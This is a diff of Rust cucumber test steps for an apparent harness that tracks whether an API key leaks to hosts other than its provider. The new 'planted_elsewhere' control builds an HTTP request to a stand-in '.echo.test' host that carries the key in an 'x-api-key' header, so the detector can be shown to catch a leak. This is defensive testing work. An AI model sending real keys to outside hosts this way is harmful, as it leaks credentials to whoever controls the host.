@@ -1,18 +1,19 @@
 //! Then: where in the world, and in the attempt's folder, an API key is.
 
 use std::fs;
+use std::net::IpAddr;
 use std::path::{Path, PathBuf};
 
 use cucumber::then;
 use serde_json::json;
 
 use super::StepResult;
-use super::injecting::request;
+use super::arriving::told;
+use super::conversing::{answers, words};
 use crate::lab::world::journal::Arrival;
 use crate::launch::{Launch, shell};
 use crate::plan::{Action, Plan};
 use crate::scene::{Scene, addresses};
-use crate::text;
 use crate::verdict::ControlKind;
 
 /// The bodies of requests inside TLS are not kept; their heads are.
@@ -30,34 +31,31 @@ async fn at_alone(scene: &mut Scene, which: usize, name: &str) -> StepResult {
     let (name, seen) = (scene.expand_text(name)?, scene.seen().await?);
     let key = scene.keys.get(which).ok_or("there is no such key")?;
     let own = addresses(&name);
-    let places: Vec<_> =
-        seen.world.arrivals.iter().filter(|arrival| brought(arrival, key)).map(|arrival| arrival.to.ip()).collect();
-    let strange: Vec<_> = places.iter().filter(|place| !own.contains(place)).collect();
+    let strange = elsewhere(&seen.world.arrivals, key, &own);
+    let places = elsewhere(&seen.world.arrivals, key, &[]);
     let told = format!("the key arrived at {places:?}; {name} is {own:?}; {}", scene.last()?.report.summary());
     scene.found_certain(strange.is_empty(), told.clone());
     scene.found(!places.is_empty(), told);
     Ok(())
 }
 
-/// That the settings are what brings it there, and the world would show it.
-#[then("planted, with nothing injected the key arrives nowhere")]
-async fn planted_nowhere(scene: &mut Scene) -> StepResult {
-    let arrived = scene.seen().await?.world.arrivals.iter().filter(|a| has_key(scene, a)).count();
-    // One of two attempts has waited for the other; alone it would wait for ever.
-    let alone = (scene.launches.len() > 1).then(|| request(scene, "API_URL", "/first")).transpose()?;
-    let alone = alone.map(|words| scene.shell(&words)).transpose()?;
+/// The key as a word of the step's own, which it sends to a host that is not its provider.
+#[then("planted, a key that goes elsewhere is noticed")]
+async fn planted_elsewhere(scene: &mut Scene) -> StepResult {
+    let key = scene.keys.first().cloned().ok_or("there is no key")?;
+    let host = format!("{}.echo.test", scene.nonce);
+    let text = format!("GET http://{host}/planted HTTP/1.1\nHost: {host}\nx-api-key: {key}\nConnection: close\n");
+    let command = [scene.probe("converse proxy")?, words(scene, &text)?].concat();
     let change = |plan: &mut Plan| {
         plan.forget_keys();
-        plan.action = alone.map_or_else(|| plan.action.clone(), Action::Run);
+        plan.allow(&host);
+        plan.action = Action::Run(command);
     };
-    scene.changed(change).await?;
-    let after = scene.seen_now().await?.world.arrivals.iter().filter(|a| has_key(scene, a)).count();
-    let shown = arrived > 0 && after == arrived;
-    scene.control(
-        ControlKind::Planted,
-        shown,
-        format!("with it, {arrived} arrivals had a key; without it, {}", after - arrived),
-    );
+    let launch = scene.changed(change).await?;
+    let seen = scene.seen_now().await?;
+    let strange = elsewhere(&seen.world.arrivals, &key, &[]);
+    let shown = strange.iter().any(|place| addresses(&host).contains(place)) && launch.unfinished().is_none();
+    scene.control(ControlKind::Planted, shown, format!("planted: the key arrived at {strange:?}"));
     Ok(())
 }
 
@@ -79,21 +77,16 @@ async fn without(scene: &mut Scene, path: String, name: String) -> StepResult {
     Ok(())
 }
 
-#[then(regex = r#"^every request to "(.+)" has one header "(.+)", with "(.+)"$"#)]
-async fn one_header(scene: &mut Scene, name: String, header: String, value: String) -> StepResult {
+/// `one` = and no other of that name.
+#[then(regex = r#"^every request to "(.+)" has (a|one) header "(.+)", with "(.+)"$"#)]
+async fn has_header(scene: &mut Scene, name: String, many: String, header: String, value: String) -> StepResult {
     let (name, value, seen) = (scene.expand_text(&name)?, scene.expand_text(&value)?, scene.seen().await?);
     let heads = seen.requests(&name);
-    let has = |head: &&str| values(head, &header) == [value.as_str()];
+    let has = |head: &&str| {
+        let values = values(head, &header);
+        values.contains(&value.as_str()) && (many == "a" || values.len() == 1)
+    };
     let held = !heads.is_empty() && heads.iter().all(has);
-    scene.found(held, format!("requests at {name}: {}", told(&heads)));
-    Ok(())
-}
-
-#[then(regex = r#"^no request that arrives at "(.+)" has "(.+)"$"#)]
-async fn lacks(scene: &mut Scene, name: String, words: String) -> StepResult {
-    let (name, words, seen) = (scene.expand_text(&name)?, scene.expand_text(&words)?, scene.seen().await?);
-    let heads = seen.requests(&name);
-    let held = !heads.is_empty() && !heads.iter().any(|head| has_words(head, &words));
     scene.found(held, format!("requests at {name}: {}", told(&heads)));
     Ok(())
 }
@@ -108,8 +101,9 @@ async fn bare_has(scene: &mut Scene, name: String, words: String) -> StepResult 
     let bare = scene.bare(&command).await?;
     let seen = scene.seen_now().await?;
     let heads: Vec<&str> = seen.requests(&name).into_iter().skip(before).collect();
-    let shown = heads.iter().any(|head| has_words(head, &words)) || bare.output().contains(&words);
-    scene.control(ControlKind::Bare, shown, format!("bare: {}; {}", told(&heads), super::conversing::answers(&bare)));
+    let shown = heads.iter().any(|head| head.to_ascii_lowercase().contains(&words.to_ascii_lowercase()))
+        || bare.output().contains(&words);
+    scene.control(ControlKind::Bare, shown, format!("bare: {}; {}", told(&heads), answers(&bare)));
     Ok(())
 }
 
@@ -158,12 +152,10 @@ fn file_has_key(scene: &Scene, path: &Path) -> Result<bool, String> {
     Ok(scene.keys.iter().any(holds))
 }
 
-fn has_key(scene: &Scene, arrival: &Arrival) -> bool {
-    scene.keys.iter().any(|key| brought(arrival, key))
-}
-
-fn brought(arrival: &Arrival, key: &str) -> bool {
-    arrival.text.contains(key) || arrival.requests.iter().any(|head| head.contains(key))
+/// Where a key arrived, but for these addresses.
+fn elsewhere(arrivals: &[Arrival], key: &str, own: &[IpAddr]) -> Vec<IpAddr> {
+    let with_key = arrivals.iter().filter(|arrival| arrival.has(key));
+    with_key.map(|arrival| arrival.to.ip()).filter(|place| !own.contains(place)).collect()
 }
 
 fn path_of(head: &str) -> &str {
@@ -174,12 +166,4 @@ fn path_of(head: &str) -> &str {
 fn values<'a>(head: &'a str, name: &str) -> Vec<&'a str> {
     let fields = head.lines().skip(1).filter_map(|line| line.split_once(':'));
     fields.filter(|(own, _)| own.trim().eq_ignore_ascii_case(name)).map(|(_, value)| value.trim()).collect()
-}
-
-fn has_words(head: &str, words: &str) -> bool {
-    head.to_ascii_lowercase().contains(&words.to_ascii_lowercase())
-}
-
-fn told(heads: &[&str]) -> String {
-    heads.iter().map(|head| text::line(head.as_bytes(), 200)).collect::<Vec<_>>().join(" | ")
 }
